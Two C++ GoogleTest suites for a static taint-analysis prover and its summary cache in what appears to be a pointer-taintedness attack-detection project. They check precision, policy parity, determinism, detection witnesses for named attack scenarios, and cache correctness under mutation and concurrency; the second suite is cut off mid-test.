VsaAnalysis analyze_source(const std::string& text, cpu::TaintPolicy policy = {},
                           bool witnesses = false) {
  const asmgen::Program p = asmgen::assemble(text);
  VsaOptions o;
  o.witnesses = witnesses;
  return analyze_vsa(Cfg(p), policy, o);
}

/// First dereference site in `va` whose base register is `reg` (and, when
/// `op` is given, whose opcode matches); null when absent.
const DerefSite* site_with_base(const VsaAnalysis& va, int reg,
                                std::optional<Op> op = std::nullopt) {
  for (const DerefSite& s : va.sites) {
    if (s.addr_reg == reg && (!op || s.inst.op == *op)) return &s;
  }
  return nullptr;
}

// ---- frame-cell precision --------------------------------------------------

// A $ra spill/reload around a call: the register-only analyzer sees the
// reload as "load = MaybeTainted" and poisons the return; the prover tracks
// the precise frame cell and clears it.
constexpr const char* kSpillReload = R"(
  .text
  _start:
    jal work
    li $v0, 1
    li $a0, 0
    syscall
  work:
    addiu $sp, $sp, -8
    sw $ra, 4($sp)
    jal leaf
    lw $ra, 4($sp)
    addiu $sp, $sp, 8
    jr $ra
  leaf:
    jr $ra
)";

TEST(VsaProver, FrameSpillReloadProvesReturnClean) {
  const asmgen::Program p = asmgen::assemble(kSpillReload);
  const Cfg cfg(p);
  const TaintAnalysis g1 = analyze_taint(cfg, {});
  const VsaAnalysis g2 = analyze_vsa(cfg, {});
  // Find work's `jr $ra` (the one preceded by the reload).
  const uint32_t work_entry = [&] {
    for (const auto& f : cfg.functions()) {
      if (f.name == "work") return f.entry;
    }
    ADD_FAILURE() << "no function `work`";
    return 0u;
  }();
  const DerefSite* s1 = nullptr;
  const DerefSite* s2 = nullptr;
  for (size_t i = 0; i < g1.sites.size(); ++i) {
    const DerefSite& s = g1.sites[i];
    if (s.is_jump && cfg.function_at(s.pc) >= 0 &&
        cfg.functions()[static_cast<size_t>(cfg.function_at(s.pc))].entry ==
            work_entry) {
      s1 = &s;
      s2 = &g2.sites[i];
    }
  }
  ASSERT_NE(s1, nullptr);
  ASSERT_NE(s2, nullptr);
  EXPECT_TRUE(may_be_tainted(s1->may_taint))
      << "gen-1 should degrade the reloaded $ra";
  EXPECT_FALSE(may_be_tainted(s2->may_taint))
      << "the prover should clear the precise frame cell";
}

TEST(VsaProver, SpillReloadSiteEntersGen2Table) {
  const asmgen::Program p = asmgen::assemble(kSpillReload);
  const Cfg cfg(p);
  const Gen2Elision gen2 = gen2_elision(cfg, {});
  EXPECT_GT(gen2.gen2_clean, gen2.gen1_clean)
      << "memory-transiting cleanliness should add elisions";
}

// ---- syscall buffer modeling -----------------------------------------------

// SYS_READ with a precise frame buffer taints exactly the buffer cells: a
// word loaded from inside the buffer poisons its dereference, a frame cell
// outside the buffer stays provably clean.
constexpr const char* kReadBuffer = R"(
  .text
  _start:
    addiu $sp, $sp, -32
    sw $zero, 28($sp)
    li $v0, 3        # SYS_READ
    li $a0, 0
    addiu $a1, $sp, 8
    li $a2, 16       # buffer = [sp+8, sp+24)
    syscall
    lw $t1, 8($sp)   # inside the buffer
    lw $v0, 0($t1)
    lw $t2, 28($sp)  # outside the buffer
    lw $v0, 0($t2)
    li $v0, 1
    li $a0, 0
    syscall
)";

TEST(VsaProver, SyscallTaintsPreciseBufferCellsOnly) {
  const VsaAnalysis va = analyze_source(kReadBuffer);
  const DerefSite* in_buf = site_with_base(va, isa::kT1, Op::kLw);
  const DerefSite* out_buf = site_with_base(va, isa::kT2, Op::kLw);
  ASSERT_NE(in_buf, nullptr);
  ASSERT_NE(out_buf, nullptr);
  EXPECT_TRUE(may_be_tainted(in_buf->may_taint));
  EXPECT_FALSE(may_be_tainted(out_buf->may_taint));
}

TEST(VsaProver, WitnessTracesInputToDereference) {
  const VsaAnalysis va =
      analyze_source(kReadBuffer, {}, /*witnesses=*/true);
  const DerefSite* in_buf = site_with_base(va, isa::kT1, Op::kLw);
  ASSERT_NE(in_buf, nullptr);
  const Witness* w = va.witness_at(in_buf->pc);
  ASSERT_NE(w, nullptr);
  EXPECT_TRUE(w->complete) << "path must start at a taint source";
  ASSERT_GE(w->steps.size(), 2u);
  EXPECT_NE(w->steps.front().event.find("input"), std::string::npos)
      << "root should be the SYS_READ, got: " << w->steps.front().event;
  EXPECT_EQ(w->steps.back().pc, in_buf->pc);
  EXPECT_NE(w->steps.back().event.find("dereference"), std::string::npos);
}

// ---- gen-2 supersedes gen-1 ------------------------------------------------

TEST(Gen2Elision, StrictlySupersedesRegisterOnlyTable) {
  for (auto make : {&guest::apps::exp2_heap, &guest::apps::null_httpd,
                    &guest::apps::spec_bzip2}) {
    const asmgen::Program p =
        asmgen::assemble(guest::link_with_runtime(make()));
    const Cfg cfg(p);
    const TaintAnalysis g1 = analyze_taint(cfg, {});
    const Gen2Elision gen2 = gen2_elision(cfg, {});
    ASSERT_EQ(g1.elision.size(), gen2.elision.size());
    for (size_t i = 0; i < g1.elision.size(); ++i) {
      if (g1.elision[i]) {
        EXPECT_TRUE(gen2.elision[i]) << "gen-1 elision lost at index " << i;
      }
    }
    EXPECT_GE(gen2.gen2_clean, gen2.gen1_clean);
  }
}

// ---- static/dynamic Table 1 parity -----------------------------------------

// Per policy column, the prover's verdict on each special-case rule must
// match what the dynamic TaintUnit computes for the same instruction on a
// fully tainted operand: statically-clean iff dynamically-untainted.

/// Static side: abstract taint of a $t1 dereference after `body` runs on a
/// tainted $t0 (loaded from a SYS_READ buffer).
Taint vsa_taint_after(const std::string& body, const cpu::TaintPolicy& policy) {
  const VsaAnalysis va = analyze_source(
      ".text\n_start:\n  addiu $sp, $sp, -16\n"
      "  li $v0, 3\n  li $a0, 0\n  addiu $a1, $sp, 0\n  li $a2, 8\n"
      "  syscall\n  lw $t0, 0($sp)\n" +
          body +
          "\n  lw $v0, 0($t1)\n  li $v0, 1\n  li $a0, 0\n  syscall\n",
      policy);
  const DerefSite* s = site_with_base(va, isa::kT1, Op::kLw);
  if (s == nullptr) {
    ADD_FAILURE() << "no $t1 dereference site";
    return Taint::kTop;
  }
  return s->may_taint;
}

/// Dynamic side: does the TaintUnit leave the result untainted?
bool unit_clears(const cpu::TaintPolicy& policy, Op op, uint8_t rs, uint8_t rt,
                 mem::TaintedWord a, mem::TaintedWord b) {
  cpu::TaintUnit unit(policy);
  cpu::TaintOpInputs in;
  in.inst.op = op;
  in.inst.rs = rs;
  in.inst.rt = rt;
  in.inst.rd = 10;
  in.a = a;
  in.b = b;
  return unit.propagate(in).result_taint == mem::kUntainted;
}

TEST(PolicyParity, CompareRuleMatchesTaintUnitPerColumn) {
  for (const auto& v : campaign::ablation_variants()) {
    // Dynamic: slt on a tainted operand requests operand untainting.
    cpu::TaintUnit unit(v.policy);
    cpu::TaintOpInputs in;
    in.inst.op = Op::kSlt;
    in.inst.rs = 8;
    in.inst.rt = 11;
    in.inst.rd = 10;
    in.a = {100, mem::kAllTainted};
    in.b = {200};
    const bool dyn_clean = unit.propagate(in).untaint_sources;
    const Taint st =
        vsa_taint_after("  slt $t2, $t0, $t3\n  move $t1, $t0", v.policy);
    EXPECT_EQ(!may_be_tainted(st), dyn_clean) << "policy " << v.name;
  }
}

TEST(PolicyParity, AndZeroRuleMatchesTaintUnitPerColumn) {
  for (const auto& v : campaign::ablation_variants()) {
    const bool dyn_clean =
        unit_clears(v.policy, Op::kAnd, 8, 0, {0x61626364, mem::kAllTainted},
                    {0, mem::kUntainted});
    const Taint st = vsa_taint_after("  and $t1, $t0, $zero", v.policy);
    EXPECT_EQ(!may_be_tainted(st), dyn_clean) << "policy " << v.name;
  }
}

TEST(PolicyParity, XorSelfRuleMatchesTaintUnitPerColumn) {
  for (const auto& v : campaign::ablation_variants()) {
    const bool dyn_clean =
        unit_clears(v.policy, Op::kXor, 8, 8, {0x61616161, mem::kAllTainted},
                    {0x61616161, mem::kAllTainted});
    const Taint st = vsa_taint_after("  xor $t1, $t0, $t0", v.policy);
    EXPECT_EQ(!may_be_tainted(st), dyn_clean) << "policy " << v.name;
  }
}

TEST(PolicyParity, ShiftRuleMatchesTaintUnitPerColumn) {
  for (const auto& v : campaign::ablation_variants()) {
    // A tainted shift amount taints the result under every column (the
    // shift_smear ablation only changes byte-level smearing, not this).
    const bool dyn_clean =
        unit_clears(v.policy, Op::kSllv, 8, 11, {4, mem::kAllTainted},
                    {0x61, mem::kUntainted});
    const Taint st = vsa_taint_after("  sllv $t1, $t3, $t0", v.policy);
    EXPECT_EQ(!may_be_tainted(st), dyn_clean) << "policy " << v.name;
  }
}

// ---- determinism -----------------------------------------------------------

TEST(Determinism, RepeatRunsAreByteIdentical) {
  const asmgen::Program p =
      asmgen::assemble(guest::link_with_runtime(guest::apps::ghttpd()));
  const Cfg cfg(p);
  VsaOptions o;
  o.witnesses = true;
  const VsaAnalysis a = analyze_vsa(cfg, {}, o);
  const VsaAnalysis b = analyze_vsa(cfg, {}, o);
  EXPECT_EQ(a.report(cfg), b.report(cfg));
  EXPECT_EQ(a.elision, b.elision);
  ASSERT_EQ(a.witnesses.size(), b.witnesses.size());
  for (size_t i = 0; i < a.witnesses.size(); ++i) {
    EXPECT_EQ(a.witnesses[i].site_pc, b.witnesses[i].site_pc);
    EXPECT_EQ(a.witnesses[i].complete, b.witnesses[i].complete);
    ASSERT_EQ(a.witnesses[i].steps.size(), b.witnesses[i].steps.size());
    for (size_t j = 0; j < a.witnesses[i].steps.size(); ++j) {
      EXPECT_EQ(a.witnesses[i].steps[j].pc, b.witnesses[i].steps[j].pc);
      EXPECT_EQ(a.witnesses[i].steps[j].event, b.witnesses[i].steps[j].event);
      EXPECT_EQ(a.witnesses[i].steps[j].loc, b.witnesses[i].steps[j].loc);
    }
  }
  const Gen2Elision g1 = gen2_elision(cfg, {});
  const Gen2Elision g2 = gen2_elision(cfg, {});
  EXPECT_EQ(g1.elision, g2.elision);
}

// ---- golden paper sites as prover witnesses --------------------------------

/// Pins PTAINT_ENGINE for a scope (scenario factories build machines that
/// resolve the engine from the environment).
class ScopedEngine {
 public:
  explicit ScopedEngine(const char* value) {
    if (const char* old = std::getenv("PTAINT_ENGINE")) saved_ = old;
    ::setenv("PTAINT_ENGINE", value, 1);
  }
  ~ScopedEngine() {
    if (saved_.empty()) {
      ::unsetenv("PTAINT_ENGINE");
    } else {
      ::setenv("PTAINT_ENGINE", saved_.c_str(), 1);
    }
  }

 private:
  std::string saved_;
};

/// Runs the scenario's attack with gen-2 elision installed on `engine`,
/// checks the dynamic alert matches the paper's site, and requires the
/// prover to hold a complete witness trace for exactly that PC.
void expect_golden_witness(core::AttackId id, const char* engine,
                           const std::string& function,
                           const std::string& disasm_contains) {
  ScopedEngine pin(engine);
  auto scenario = core::make_scenario(id);
  const cpu::TaintPolicy policy;  // paper defaults (pointer taintedness)
  auto machine = scenario->prepare_attack(policy);
  machine->enable_static_elision();  // the gen-2 table
  core::RunReport report = machine->run();
  const core::ScenarioResult r =
      scenario->classify_attack(*machine, std::move(report));
  ASSERT_EQ(r.outcome, core::Outcome::kDetected) << r.detail;
  ASSERT_TRUE(r.report.alert.has_value());
  EXPECT_EQ(r.report.alert_function, function);
  EXPECT_NE(r.report.alert->disasm.find(disasm_contains), std::string::npos)
      << r.report.alert->disasm;

  const Cfg cfg(machine->program());
  VsaOptions o;
  o.witnesses = true;
  const VsaAnalysis va = analyze_vsa(cfg, policy, o);
  const Witness* w = va.witness_at(r.report.alert->pc);
  ASSERT_NE(w, nullptr) << "no prover witness for the paper alert site";
  EXPECT_TRUE(w->complete);
  ASSERT_GE(w->steps.size(), 2u);
  EXPECT_NE(w->steps.back().event.find("dereference"), std::string::npos);
}

TEST(GoldenWitness, Exp1StackJrRaBothEngines) {
  expect_golden_witness(core::AttackId::kExp1Stack, "step", "exp1", "jr $31");
  expect_golden_witness(core::AttackId::kExp1Stack, "superblock", "exp1",
                        "jr $31");
}

TEST(GoldenWitness, Exp2HeapFreeBothEngines) {
  expect_golden_witness(core::AttackId::kExp2Heap, "step", "free", "($");
  expect_golden_witness(core::AttackId::kExp2Heap, "superblock", "free",
                        "($");
}

TEST(GoldenWitness, Exp3FormatVfprintfBothEngines) {
  expect_golden_witness(core::AttackId::kExp3Format, "step", "vfprintf",
                        "sw $21,0($3)");
  expect_golden_witness(core::AttackId::kExp3Format, "superblock", "vfprintf",
                        "sw $21,0($3)");
}

// ---- may-publish annotations (leak direction, §5.3 escape hatch) -----------

TEST(MayPublishProver, AnnotatedSitesAreExplainedNotPossible) {
  const asmgen::Program p = asmgen::assemble(
      guest::link_with_runtime(guest::apps::leak_telemetry()));
  const Cfg cfg(p);
  cpu::TaintPolicy policy;
  policy.leak_detection = true;

  VsaOptions plain;
  plain.witnesses = true;
  const VsaAnalysis before = analyze_vsa(cfg, policy, plain);
  ASSERT_GT(before.leak_possible, 0u)
      << "the telemetry app's send must be a possible leak site";
  EXPECT_EQ(before.leak_annotated, 0u);

  VsaOptions annotated = plain;
  annotated.may_publish = resolve_publish_ranges(p, {"send"}, true);
  const VsaAnalysis after = analyze_vsa(cfg, policy, annotated);
  EXPECT_GT(after.leak_annotated, 0u);
  EXPECT_LT(after.leak_possible, before.leak_possible)
      << "annotated sites leave the possible-leak bucket";
  // The waiver is not a proof: annotated sites never join the leak-check
  // elision bitmap (identical bitmaps with and without the annotation).
  EXPECT_EQ(after.leak_elision, before.leak_elision);
  EXPECT_EQ(after.leak_clean, before.leak_clean);
  // Annotated sites carry no witness (nothing to explain to the user).
  for (const Witness& w : after.leak_witnesses) {
    const LeakSite* site = after.leak_site_at(w.site_pc);
    ASSERT_NE(site, nullptr);
    EXPECT_FALSE(site->annotated);
  }
}

TEST(MayPublishProver, Gen2ElisionCarriesAnnotationCounts) {
  const asmgen::Program p = asmgen::assemble(
      guest::link_with_runtime(guest::apps::leak_telemetry()));
  const Cfg cfg(p);
  cpu::TaintPolicy policy;
  policy.leak_detection = true;
  VsaOptions options;
  options.may_publish = resolve_publish_ranges(p, {"send"}, true);
  const Gen2Elision gen2 = gen2_elision(Cfg(p), policy, options);
  EXPECT_GT(gen2.leak_annotated, 0u);
}

TEST(MayPublishProver, ResolveRangesMirrorsProtectSymbolContract) {
  const asmgen::Program p = asmgen::assemble(
      guest::link_with_runtime(guest::apps::leak_telemetry()));
  const auto ranges = resolve_publish_ranges(p, {"send"}, true);
  ASSERT_EQ(ranges.size(), 1u);
  EXPECT_LT(ranges[0].first, ranges[0].second);
  EXPECT_THROW(resolve_publish_ranges(p, {"no_such_fn"}, true),
               std::out_of_range);
  // Non-strict (the restore path) skips unknown names instead.
  EXPECT_TRUE(resolve_publish_ranges(p, {"no_such_fn"}, false).empty());
}

}  // namespace
}  // namespace ptaint::analysis
