// Tests for the process-wide analysis summary cache
// (src/analysis/summary_cache.cpp): exact content hits, per-function
// chained-hash determinism and locality, the incremental warm path's
// byte-identity contract against from-scratch cold runs (randomized over
// mutation sites, with and without witnesses), policy keying, LRU
// eviction, the PTAINT_ANALYSIS_CACHE=0 bypass, and concurrent lookups
// collapsing onto one analysis.  The suite names match the CI thread
// sanitizer filter (SummaryCache*).
#include <gtest/gtest.h>

#include <algorithm>
#include <cstdlib>
#include <optional>
#include <random>
#include <string>
#include <thread>
#include <vector>

#include "analysis/cfg.hpp"
#include "analysis/summary_cache.hpp"
#include "asmgen/assembler.hpp"
#include "core/spec_workloads.hpp"
#include "guest/runtime.hpp"
#include "isa/isa.hpp"

namespace ptaint::analysis {
namespace {

using isa::Op;

asmgen::Program spec_program(size_t index = 0) {
  auto workloads = core::make_spec_workloads(1);
  auto& w = workloads.at(index);
  return asmgen::assemble(guest::link_with_runtime(std::move(w.app)));
}

// ---- identity comparison ---------------------------------------------------

bool same_witnesses(const std::vector<Witness>& a,
                    const std::vector<Witness>& b) {
  if (a.size() != b.size()) return false;
  for (size_t i = 0; i < a.size(); ++i) {
    if (a[i].site_pc != b[i].site_pc || a[i].complete != b[i].complete ||
        a[i].steps.size() != b[i].steps.size()) {
      return false;
    }
    for (size_t j = 0; j < a[i].steps.size(); ++j) {
      if (a[i].steps[j].pc != b[i].steps[j].pc ||
          a[i].steps[j].event != b[i].steps[j].event ||
          a[i].steps[j].loc != b[i].steps[j].loc) {
        return false;
      }
    }
  }
  return true;
}

bool same_leak_sites(const std::vector<LeakSite>& a,
                     const std::vector<LeakSite>& b) {
  if (a.size() != b.size()) return false;
  for (size_t i = 0; i < a.size(); ++i) {
    if (a[i].pc != b[i].pc || a[i].reachable != b[i].reachable ||
        a[i].may_planes != b[i].may_planes ||
        a[i].annotated != b[i].annotated) {
      return false;
    }
  }
  return true;
}

/// Full identity between two result sets: every surface a consumer reads.
::testing::AssertionResult identical(const Cfg& cfg, const CachedAnalysis& x,
                                     const CachedAnalysis& y) {
  if (x.gen2.elision != y.gen2.elision) {
    return ::testing::AssertionFailure() << "gen2 elision bitmap differs";
  }
  if (x.gen2.leak_elision != y.gen2.leak_elision) {
    return ::testing::AssertionFailure() << "leak elision bitmap differs";
  }
  if (x.g1.elision != y.g1.elision) {
    return ::testing::AssertionFailure() << "gen1 elision bitmap differs";
  }
  if (x.g1.report(cfg) != y.g1.report(cfg)) {
    return ::testing::AssertionFailure() << "gen1 site report differs";
  }
  if (x.g2.report(cfg) != y.g2.report(cfg)) {
    return ::testing::AssertionFailure() << "gen2 site report differs";
  }
  if (x.g2.leak_report(cfg) != y.g2.leak_report(cfg)) {
    return ::testing::AssertionFailure() << "leak report differs";
  }
  if (!same_witnesses(x.g2.witnesses, y.g2.witnesses)) {
    return ::testing::AssertionFailure() << "witnesses differ";
  }
  if (!same_witnesses(x.g2.leak_witnesses, y.g2.leak_witnesses)) {
    return ::testing::AssertionFailure() << "leak witnesses differ";
  }
  if (!same_leak_sites(x.g2.leak_sites, y.g2.leak_sites)) {
    return ::testing::AssertionFailure() << "leak sites differ";
  }
  if (x.block_leaders != y.block_leaders) {
    return ::testing::AssertionFailure() << "block leaders differ";
  }
  return ::testing::AssertionSuccess();
}

// ---- mutation sites --------------------------------------------------------

/// Register-only ALU instruction: defines one register, reads only
/// registers.  Mirrors the bench's invisible-swap predicate.
bool alu_reg_only(const isa::Instruction& in, uint8_t& def,
                  std::vector<uint8_t>& uses) {
  uses.clear();
  switch (in.op) {
    case Op::kSll:
    case Op::kSrl:
    case Op::kSra:
      def = in.rd;
      uses = {in.rt};
      return true;
    case Op::kSllv:
    case Op::kSrlv:
    case Op::kSrav:
    case Op::kAdd:
    case Op::kAddu:
    case Op::kSub:
    case Op::kSubu:
    case Op::kAnd:
    case Op::kOr:
    case Op::kXor:
    case Op::kNor:
    case Op::kSlt:
    case Op::kSltu:
      def = in.rd;
      uses = {in.rs, in.rt};
      return true;
    case Op::kAddi:
    case Op::kAddiu:
    case Op::kSlti:
    case Op::kSltiu:
    case Op::kAndi:
    case Op::kOri:
    case Op::kXori:
      def = in.rt;
      uses = {in.rs};
      return true;
    case Op::kLui:
      def = in.rt;
      return true;
    default:
      return false;
  }
}

/// All abstractly-invisible swap sites: adjacent commuting register-only
/// ALU pairs inside one block (text index of the first instruction).
std::vector<size_t> swap_sites(const Cfg& cfg) {
  std::vector<size_t> out;
  for (const BasicBlock& bb : cfg.blocks()) {
    if (bb.function < 0) continue;  // orphan text dirties every function
    for (uint32_t pc = bb.begin; pc + 8 <= bb.end; pc += 4) {
      const size_t i = cfg.index_of(pc);
      const isa::Instruction& a = cfg.instructions()[i];
      const isa::Instruction& b = cfg.instructions()[i + 1];
      uint8_t def_a = 0, def_b = 0;
      std::vector<uint8_t> uses_a, uses_b;
      if (!alu_reg_only(a, def_a, uses_a)) continue;
      if (!alu_reg_only(b, def_b, uses_b)) continue;
      if (def_a == 0 || def_b == 0 || def_a == def_b) continue;
      auto reads = [](const std::vector<uint8_t>& uses, uint8_t r) {
        return std::find(uses.begin(), uses.end(), r) != uses.end();
      };
      if (reads(uses_b, def_a) || reads(uses_a, def_b)) continue;
      if (cfg.program().text[i] == cfg.program().text[i + 1]) continue;
      out.push_back(i);
    }
  }
  return out;
}

/// Semantically *visible* mutation candidates: immediates of ALU-immediate
/// instructions that do not touch $sp (perturbing one genuinely changes
/// the program, so these exercise the warm path's verify-or-fall-back
/// contract rather than the pure splice).
std::vector<size_t> imm_sites(const Cfg& cfg) {
  std::vector<size_t> out;
  for (size_t i = 0; i < cfg.instructions().size(); ++i) {
    const isa::Instruction& in = cfg.instructions()[i];
    switch (in.op) {
      case Op::kAddiu:
      case Op::kOri:
      case Op::kXori:
        if (in.rt != isa::kSp && in.rs != isa::kSp) out.push_back(i);
        break;
      default:
        break;
    }
  }
  return out;
}

// ---- exact hits and keying -------------------------------------------------

/// The CI bypass leg (PTAINT_ANALYSIS_CACHE=0) re-runs the whole suite
/// with memoization off.  Tests asserting *memoization* semantics skip
/// there; the identity-contract tests keep running — verifying answers
/// don't change with the cache off is exactly that leg's job.
#define PTAINT_REQUIRE_CACHE_ON()                                     \
  if (!SummaryCache::enabled()) {                                     \
    GTEST_SKIP() << "memoization disabled via PTAINT_ANALYSIS_CACHE"; \
  }

TEST(SummaryCacheTest, ExactContentHitReturnsTheSameResultObject) {
  PTAINT_REQUIRE_CACHE_ON();
  const asmgen::Program program = spec_program();
  SummaryCache cache;
  const auto a = cache.analyze(program, {});
  const auto b = cache.analyze(program, {});
  EXPECT_EQ(a.get(), b.get());  // same shared object, no re-analysis
  const CacheStats s = cache.stats();
  EXPECT_EQ(s.lookups, 2u);
  EXPECT_EQ(s.hits, 1u);
  EXPECT_EQ(s.cold_misses, 1u);
  EXPECT_EQ(s.entries, 1u);
}

TEST(SummaryCacheTest, PolicyColumnIsPartOfTheKey) {
  PTAINT_REQUIRE_CACHE_ON();
  const asmgen::Program program = spec_program();
  SummaryCache cache;
  cpu::TaintPolicy pointer_taint;
  cpu::TaintPolicy control_only;
  control_only.mode = cpu::DetectionMode::kControlDataOnly;
  const auto a = cache.analyze(program, pointer_taint);
  const auto b = cache.analyze(program, control_only);
  EXPECT_NE(a.get(), b.get());
  EXPECT_EQ(cache.stats().hits, 0u);  // no cross-policy hit
  EXPECT_EQ(cache.stats().entries, 2u);
}

TEST(SummaryCacheTest, EvictionAtCapacityDropsTheColdestEntry) {
  PTAINT_REQUIRE_CACHE_ON();
  const asmgen::Program a = spec_program(0);
  const asmgen::Program b = spec_program(1);
  SummaryCache cache;
  cache.set_capacity(1);
  (void)cache.analyze(a, {});
  (void)cache.analyze(b, {});
  EXPECT_EQ(cache.stats().evictions, 1u);
  EXPECT_EQ(cache.stats().entries, 1u);
  // `a` was evicted: looking it up again is not a hit.
  (void)cache.analyze(a, {});
  EXPECT_EQ(cache.stats().hits, 0u);
}

TEST(SummaryCacheTest, DisabledViaEnvironmentStillComputesCorrectly) {
  const asmgen::Program program = spec_program();
  SummaryCache reference;
  const auto want = reference.analyze(program, {});

  // Restore whatever the harness set afterwards (the CI bypass leg runs
  // this whole binary with PTAINT_ANALYSIS_CACHE=0 already in place).
  const char* prior = std::getenv("PTAINT_ANALYSIS_CACHE");
  const std::string saved = prior != nullptr ? prior : "";
  ASSERT_EQ(setenv("PTAINT_ANALYSIS_CACHE", "0", 1), 0);
  EXPECT_FALSE(SummaryCache::enabled());
  SummaryCache cache;
  const auto x = cache.analyze(program, {});
  const auto y = cache.analyze(program, {});
  if (prior != nullptr) {
    ASSERT_EQ(setenv("PTAINT_ANALYSIS_CACHE", saved.c_str(), 1), 0);
  } else {
    ASSERT_EQ(unsetenv("PTAINT_ANALYSIS_CACHE"), 0);
    EXPECT_TRUE(SummaryCache::enabled());
  }

  EXPECT_NE(x.get(), y.get());  // nothing memoized
  EXPECT_EQ(cache.stats().hits, 0u);
  EXPECT_EQ(cache.stats().cold_misses, 2u);
  EXPECT_EQ(cache.stats().entries, 0u);
  const Cfg cfg(program);
  EXPECT_TRUE(identical(cfg, *want, *x));
  EXPECT_TRUE(identical(cfg, *want, *y));
}

// ---- function-hash determinism and locality --------------------------------

TEST(SummaryCacheTest, FunctionHashesAreDeterministicAcrossRunsAndJobs) {
  const asmgen::Program program = spec_program();
  SummaryCache serial;
  serial.set_jobs(1);
  SummaryCache parallel;
  parallel.set_jobs(4);
  const auto a = serial.analyze(program, {});
  const auto b = parallel.analyze(program, {});
  ASSERT_FALSE(a->fn_hashes.empty());
  EXPECT_EQ(a->fn_hashes, b->fn_hashes);
  // Re-assembling the identical source yields the identical hash vector.
  const auto c = SummaryCache().analyze(spec_program(), {});
  EXPECT_EQ(a->fn_hashes, c->fn_hashes);
  // Golden structural facts: one entry per recovered function, ascending.
  const Cfg cfg(program);
  ASSERT_EQ(a->fn_hashes.size(), cfg.functions().size());
  for (size_t i = 0; i < a->fn_hashes.size(); ++i) {
    EXPECT_EQ(a->fn_hashes[i].first, cfg.functions()[i].entry);
    if (i > 0) {
      EXPECT_LT(a->fn_hashes[i - 1].first, a->fn_hashes[i].first);
    }
  }
}

// A mutation in a leaf dirties exactly the leaf plus its transitive
// callers; unrelated functions keep their chained hash.
TEST(SummaryCacheTest, MutationDirtiesOnlyTheTransitiveCallerClosure) {
  constexpr const char* kSource = R"(
  .text
  _start:
    jal mid
    jal other
    li $v0, 1
    li $a0, 0
    syscall
  mid:
    addiu $sp, $sp, -8
    sw $ra, 4($sp)
    jal leaf
    lw $ra, 4($sp)
    addiu $sp, $sp, 8
    jr $ra
  leaf:
    li $t0, 1
    li $t1, 2
    jr $ra
  other:
    li $t2, 3
    jr $ra
)";
  asmgen::Program base = asmgen::assemble(kSource);
  const Cfg cfg(base);

  // Swap leaf's two independent loads: content changes, semantics do not.
  asmgen::Program mutated = base;
  uint32_t leaf_entry = 0;
  for (const Function& f : cfg.functions()) {
    if (f.name == "leaf") leaf_entry = f.entry;
  }
  ASSERT_NE(leaf_entry, 0u);
  const size_t i = cfg.index_of(leaf_entry);
  ASSERT_NE(mutated.text[i], mutated.text[i + 1]);
  std::swap(mutated.text[i], mutated.text[i + 1]);

  SummaryCache cache;
  const auto a = cache.analyze(base, {});
  const auto b = cache.analyze(mutated, {});
  ASSERT_EQ(a->fn_hashes.size(), b->fn_hashes.size());
  for (const Function& f : cfg.functions()) {
    const auto find = [&](const auto& v) {
      return std::lower_bound(v.begin(), v.end(),
                              std::pair<uint32_t, uint64_t>{f.entry, 0})
          ->second;
    };
    const bool in_closure =
        f.name == "leaf" || f.name == "mid" || f.name == "_start";
    if (in_closure) {
      EXPECT_NE(find(a->fn_hashes), find(b->fn_hashes)) << f.name;
    } else {
      EXPECT_EQ(find(a->fn_hashes), find(b->fn_hashes)) << f.name;
    }
  }
  // And (when memoizing) the warm attempt counted exactly that closure.
  if (SummaryCache::enabled()) {
    EXPECT_EQ(cache.stats().invalidated_fns, 3u);
  }
}

// ---- the incremental identity contract -------------------------------------

// Property test: mutate one function at a random site and compare the
// incremental warm re-analysis against a from-scratch cold run of the
// mutated program.  Two mutation kinds: abstractly-invisible swaps (warm
// path splices clean functions) and visible immediate perturbations (warm
// path must verify or fall back).  Both halves run with witnesses off
// (Machine-shaped, spliced collection) and on (witness traces are always
// fully recomputed).  Whatever path the cache takes, the result must be
// byte-identical to cold.
TEST(SummaryCacheTest, RandomMutationWarmEqualsColdProperty) {
  const asmgen::Program base = spec_program();
  const Cfg base_cfg(base);
  const std::vector<size_t> swaps = swap_sites(base_cfg);
  const std::vector<size_t> imms = imm_sites(base_cfg);
  ASSERT_FALSE(swaps.empty());
  ASSERT_FALSE(imms.empty());

  std::mt19937 rng(0x9e3779b9);  // fixed seed: reproducible failures
  uint64_t warm_hits = 0;
  for (int iter = 0; iter < 10; ++iter) {
    asmgen::Program mutated = base;
    if (iter % 2 == 0) {
      const size_t i = swaps[rng() % swaps.size()];
      std::swap(mutated.text[i], mutated.text[i + 1]);
    } else {
      const size_t i = imms[rng() % imms.size()];
      mutated.text[i] ^= 1u << (rng() % 8);  // perturb the immediate
    }
    VsaOptions opts;
    opts.witnesses = (iter % 4) < 2;

    SummaryCache warm_cache;
    (void)warm_cache.analyze(base, {}, opts);  // seed the warm base
    const auto warm = warm_cache.analyze(mutated, {}, opts);
    warm_hits += warm_cache.stats().warm_hits;

    SummaryCache cold_cache;
    const auto cold = cold_cache.analyze(mutated, {}, opts);

    const Cfg cfg(mutated);
    EXPECT_TRUE(identical(cfg, *cold, *warm))
        << "iter " << iter << (opts.witnesses ? " (witnesses)" : "");
  }
  // The invisible swaps must actually exercise the warm path (visible
  // mutations may fall back; that is their point).  With memoization
  // disabled every run is cold — the identity loop above is the test.
  if (SummaryCache::enabled()) {
    EXPECT_GE(warm_hits, 5u);
  }
}

// ---- concurrency -----------------------------------------------------------

TEST(SummaryCacheConcurrency, SameKeyLookupsCollapseOntoOneAnalysis) {
  PTAINT_REQUIRE_CACHE_ON();
  const asmgen::Program program = spec_program();
  SummaryCache cache;
  constexpr int kThreads = 4;
  std::vector<std::shared_ptr<const CachedAnalysis>> results(kThreads);
  {
    std::vector<std::thread> threads;
    for (int t = 0; t < kThreads; ++t) {
      threads.emplace_back(
          [&, t] { results[t] = cache.analyze(program, {}); });
    }
    for (auto& th : threads) th.join();
  }
  for (int t = 1; t < kThreads; ++t) {
    EXPECT_EQ(results[0].get(), results[t].get());
  }
  const CacheStats s = cache.stats();
  EXPECT_EQ(s.lookups, static_cast<uint64_t>(kThreads));
  EXPECT_EQ(s.cold_misses, 1u);  // one analysis served every waiter
  EXPECT_EQ(s.hits, static_cast<uint64_t>(kThreads - 1));
}

TEST(SummaryCacheConcurrency, HammerMixedKeysStaysCoherent) {
  const asmgen::Program a = spec_program(0);
  const asmgen::Program b = spec_program(1);
  asmgen::Program a_mut = a;
  {
    const std::vector<size_t> sites = swap_sites(Cfg(a));
    ASSERT_FALSE(sites.empty());
    std::swap(a_mut.text[sites[0]], a_mut.text[sites[0] + 1]);
  }
  SummaryCache reference;
  const auto want_a = reference.analyze(a, {});
